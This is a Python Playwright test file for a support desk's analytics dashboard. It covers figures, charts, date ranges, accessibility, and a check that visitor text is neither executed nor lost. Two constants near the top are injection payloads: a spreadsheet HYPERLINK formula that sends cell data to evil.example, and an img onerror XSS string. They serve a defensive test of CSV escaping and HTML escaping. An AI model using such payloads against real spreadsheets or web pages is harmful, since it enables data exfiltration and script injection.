"""What people at the desk see of how their chats went, in a real Chromium."""

import csv
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.async_api import Browser, Page, expect

from e2e.dashboard_pages import accessible, does_not_scroll_sideways, open_dashboard
from peers.fake_model_server import FakeModelServer
from peers.running_desk import RunningDesk, running_desk

pytestmark = pytest.mark.browser

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"refund")'
MARKUP = "<img src=x onerror=window.broken.push('run')>"


@pytest.fixture
async def busy(tmp_path: Path, models: FakeModelServer) -> AsyncIterator[RunningDesk]:
    """A desk with four chats of today: two answered, two handed over, one rated 4 and one 2."""
    async with running_desk(tmp_path / "data", models.base_url) as desk:
        await desk.teach("returns.md", "# Returns\n\nYou can return shoes within thirty days.\n")
        models.say("You can return shoes within thirty days.")
        agent = await desk.sign_in()
        await talk(desk, "Can I return shoes within thirty days?", rating=4)
        await talk(desk, MARKUP)
        await talk(desk, FORMULA, to=agent, rating=2)
        await talk(desk, "Is anybody there?", to=agent)
        yield desk


async def talk(
    desk: RunningDesk, question: str, *, to: dict[str, str] | None = None, rating: int | None = None
) -> None:
    """One chat: with the assistant alone, or handed over to a person, who answers."""
    chat = await desk.start_chat()
    await desk.send(chat, question)
    replies = []
    if to:
        await desk.send(chat, "I want to speak to a person, please")
        replies.append(await desk.client.post(f"/api/chat/{chat['sessionId']}/takeover", headers=to))
        said = {"chatId": chat["chatId"], "content": "Hello.", "sender": "agent"}
        replies.append(await desk.client.post("/api/messages", json=said, headers=to))
    if rating:
        end = f"/api/messages/chat/{chat['sessionId']}/end"
        replies.append(await desk.client.post(end, json={"rating": rating}))
    assert all(reply.is_success for reply in replies), [reply.text for reply in replies]


def card(page: Page, title: str):
    return page.get_by_role("region", name=title, exact=True)


async def test_figures_charts_and_tables_tell_what_was_written(busy: RunningDesk, browser: Browser):
    page, watch = await open_dashboard(browser, busy.base_url, "/analytics")
    figures = page.get_by_role("region", name="Main figures")
    await expect(figures).to_contain_text("Chats4")
    await expect(figures).to_contain_text("Handed over to people50 %")
    await expect(figures).to_contain_text("Average rating3.0")
    await expect(card(page, "Ratings").get_by_role("row", name="4 of 5")).to_contain_text("1")
    await expect(card(page, "Why chats were handed over").get_by_role("row")).not_to_have_count(0)
    await expect(page.get_by_role("img", name="Chats per day. 4 chats; the busiest day was")).to_be_visible()
    await expect(page.locator("svg.recharts-surface")).to_have_count(4)
    assert await page.locator("main img").count() == 0
    # Drawn and as a table, by keyboard.
    hours = card(page, "Chats by hour")
    await hours.get_by_role("button", name="Table: Chats by hour").focus()
    await page.keyboard.press("Enter")
    hour = datetime.now(UTC)
    shown = hours.get_by_role("row").filter(has_text=f"{hour:%H}:00")
    await expect(shown.or_(hours.get_by_role("row").filter(has_text="4")).first).to_be_visible()
    # On paper: everything, and nothing to press.
    await page.emulate_media(media="print")
    await expect(page.get_by_role("navigation", name="Pages")).to_be_hidden()
    await expect(page.get_by_role("button")).to_have_count(0)
    tall = "document.documentElement.scrollHeight >= document.getElementById('main').scrollHeight"
    assert await page.evaluate(tall)
    await watch.saw_nothing_bad()


async def test_words_of_a_visitor_are_neither_run_nor_lost(busy: RunningDesk, browser: Browser):
    page, watch = await open_dashboard(browser, busy.base_url, "/analytics?days=7")
    async with page.expect_download() as waiting:
        await page.get_by_role("button", name="Save as CSV: Common questions").click()
    kept = await (await waiting.value).path()
    text = Path(kept).read_bytes().decode("utf-8")
    assert text.startswith("\ufeffQuestion,Times\r\n")
    rows = list(csv.reader(text.removeprefix("\ufeff").splitlines()))
    assert [f"'{FORMULA.lower()}", "1"] in rows
    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r")]
    # The same words, with every sign in them, can be tried against the knowledge base.
    link = page.get_by_role("link", name=f"Try: {FORMULA.lower()}")
    await expect(link).to_have_attribute("href", re.compile("^/dashboard/knowledge/try"))
    assert await link.evaluate("link => new URL(link.href).searchParams.get('q')") == FORMULA.lower()
    await watch.saw_nothing_bad()


async def test_the_period_is_kept_in_the_address(busy: RunningDesk, browser: Browser):
    page, watch = await open_dashboard(browser, busy.base_url, "/analytics")
    await page.get_by_role("radio", name="30 days").focus()
    await page.keyboard.press("ArrowRight")
    await expect(page).to_have_url(f"{busy.base_url}/dashboard/analytics?days=90")
    await page.reload()
    await expect(page.get_by_role("radio", name="90 days")).to_be_checked()
    await page.get_by_text("Dates", exact=True).click()
    await page.get_by_label("First day").fill("2020-01-01")
    await expect(page.get_by_text("At most 1830 days")).to_be_visible()
    await expect(page.get_by_role("region", name="Main figures")).to_contain_text("Chats4")
    await page.get_by_label("Last day").fill("2020-01-31")
    await expect(page.get_by_text("No chats in this period")).to_be_visible()
    await expect(page).to_have_url(f"{busy.base_url}/dashboard/analytics?from=2020-01-01&to=2020-01-31")
    await watch.saw_nothing_bad()


async def test_a_desk_that_fails_is_told_and_asked_again(busy: RunningDesk, browser: Browser):
    page, _ = await open_dashboard(browser, busy.base_url)
    failing = True

    async def answer(route):
        if failing:
            await route.fulfill(status=400, json={"error": "The desk cannot count now."})
        else:
            await route.continue_()

    await page.route("**/api/v1/analytics?*", answer)
    await page.get_by_role("link", name="Analytics").click()
    await expect(page.get_by_text("The desk cannot count now.")).to_be_visible()
    failing = False
    await page.get_by_role("button", name="Try again").click()
    await expect(page.get_by_role("region", name="Main figures")).to_be_visible()


async def test_axe_finds_nothing_and_nothing_is_wider_than_the_window(busy: RunningDesk, browser: Browser):
    page, watch = await open_dashboard(browser, busy.base_url, "/analytics")
    await expect(page.locator("svg.recharts-surface")).to_have_count(4)
    await accessible(page, "analytics")
    await page.set_viewport_size({"width": 320, "height": 640})
    await does_not_scroll_sideways(page)
    await page.goto(f"{busy.base_url}/dashboard/migration")
    await expect(page.get_by_role("listitem")).to_have_count(11)
    await expect(page.get_by_text("No evidence yet")).to_have_count(11)
    await expect(page.get_by_text("fake at 127.0.0.1")).to_be_visible()
    await does_not_scroll_sideways(page)
    await page.set_viewport_size({"width": 1280, "height": 860})
    await accessible(page, "migration")
    await watch.saw_nothing_bad()
